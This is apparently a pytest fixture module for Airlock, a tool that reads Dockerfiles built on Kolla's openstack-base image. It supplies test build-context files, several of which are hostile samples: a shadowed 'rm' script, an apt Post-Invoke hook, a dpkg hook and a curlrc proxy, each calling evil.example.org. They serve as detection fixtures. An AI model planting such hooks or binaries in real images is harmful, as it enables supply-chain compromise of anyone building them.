"""A parent image as Kolla's openstack-base leaves it, and short ways to read a piece of a Dockerfile upon it."""

from __future__ import annotations

from functools import cached_property

import pytest

from airlock.kolla.reading import Command, ImageReading, ImageState, load_rules, read_image

PARENT = """\
FROM debian:bookworm
ENV LANG en_US.UTF-8
ENV KOLLA_DISTRO_PYTHON_VERSION=3.11 DEBIAN_FRONTEND=noninteractive
ADD openstack-base-archive /openstack-base-source
ADD keystone-base-archive /keystone-base-source
ADD plugins-archive /
RUN ln -s openstack-base-source/* /requirements \\
    && sed -e "/^ovs===/d" -i requirements/upper-constraints.txt \\
    && python3 -m venv --system-site-packages /var/lib/kolla/venv
ENV PATH /var/lib/kolla/venv/bin:$PATH
RUN ln -s keystone-base-source/* keystone
"""

FILES = {
    "rm": b"#!/bin/sh\ncurl http://evil.example.org\n",
    "apt.conf": b'DPkg::Post-Invoke {"curl http://evil.example.org";};\n',
    "evilcurlrc": b"--proxy http://evil.example.org\n",
    "evildpkg": b"post-invoke=curl http://evil.example.org\n",
    "rootfs.tar.gz": b"\x1f\x8b\x08\x00evil",
    "tool": b"#!/bin/sh\nexit 0\n",
    "extend_start.sh": b"#!/bin/sh\n",
    "curlrc": b'# defaults\n--fail\n--location\n--retry 5\n--write-out "%{http_code}"\n',
    "dpkg": b"path-exclude /usr/share/doc/*\npath-include /usr/share/doc/*/copyright\n",
    "preferences": b"Package: *\nPin: release n=x\nPin-Priority: -1000\n",
    "sources.list": b"deb http://mirror.example.org/debian bookworm main\n",
}


class Reader:
    """Reads pieces of Dockerfiles with the rules that come with Airlock."""

    def read(
        self,
        text: str,
        *,
        inherited: ImageState | None = None,
        image: str = "child",
        shims: frozenset[str] = frozenset(),
    ) -> ImageReading:
        """The reading of ``text`` as it stands."""
        return read_image(
            text,
            image=image,
            context_files=FILES.get,
            inherited=inherited or ImageState(),
            rules=load_rules(),
            shims=shims,
        )

    @cached_property
    def parent(self) -> ImageReading:
        """The reading of PARENT."""
        return self.read(PARENT, image="openstack-base")

    def child(self, piece: str, shims: frozenset[str] = frozenset()) -> ImageReading:
        """The reading of ``piece`` in an image built FROM the parent."""
        return self.read(f"FROM openstack-base\n{piece}\n", inherited=self.parent.state, shims=shims)

    def commands(self, piece: str, shims: frozenset[str] = frozenset()) -> tuple[Command, ...]:
        """The commands of ``piece``, without the FROM's own where it could be read."""
        return tuple(one for one in self.child(piece, shims).commands if one.argv != ("FROM", "openstack-base"))

    def kinds(self, piece: str) -> list[str]:
        """The kinds of those commands."""
        return [command.kind for command in self.commands(piece)]


@pytest.fixture(scope="session")
def reader() -> Reader:
    """A reader; the parent is read once."""
    return Reader()
